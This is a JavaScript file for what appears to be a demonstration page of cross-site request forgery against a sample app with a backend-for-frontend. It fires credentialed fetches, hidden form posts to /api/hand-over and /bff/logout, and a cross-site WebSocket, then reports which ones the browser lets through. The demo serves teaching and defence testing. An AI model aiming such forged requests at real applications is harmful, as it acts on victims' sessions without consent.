// What a page on another site can try with somebody's session: everything that a browser lets it send.

const app = document.body.dataset.app;
document.getElementById("origin").textContent = location.origin;

/** A line for an attempt, filled in when there is something to say. */
function attempt(what) {
  const line = document.createElement("li");
  const code = document.createElement("code");
  const words = document.createElement("span");
  code.textContent = what;
  words.textContent = "sent…";
  line.append(code, words);
  document.getElementById("attempts").append(line);
  return (said) => (words.textContent = said);
}

async function forge(what, path, options) {
  const say = attempt(what);
  try {
    const answer = await fetch(app + path, { credentials: "include", ...options });
    say(answer.type === "opaque" ? "sent with your browser’s help; the answer may not be read" : `answered: ${answer.status}`);
  } catch {
    say("sent or not: the browser says nothing about it");
  }
}

await forge("POST /api/hand-over", "/api/hand-over?to=attacker", { method: "POST", mode: "no-cors", body: "coat=yours" });
await forge("GET /api/whoami", "/api/whoami?to=attacker", { mode: "no-cors" });
await forge("GET /api/whoami, to be read", "/api/whoami?to=attacker", { mode: "cors" });

const sayForm = attempt("form → POST /api/hand-over");
document.getElementById("forged-form").submit();
sayForm("submitted into a hidden frame");

const sayLogout = attempt("form → POST /bff/logout");
document.getElementById("forged-logout").submit();
sayLogout("submitted into a hidden frame");

const saySocket = attempt("WebSocket /api/ws");
const socket = new WebSocket(`${app.replace("http", "ws")}/api/ws?to=attacker`);
socket.addEventListener("open", () => saySocket("open!"));
socket.addEventListener("error", () => saySocket("refused at the door"));
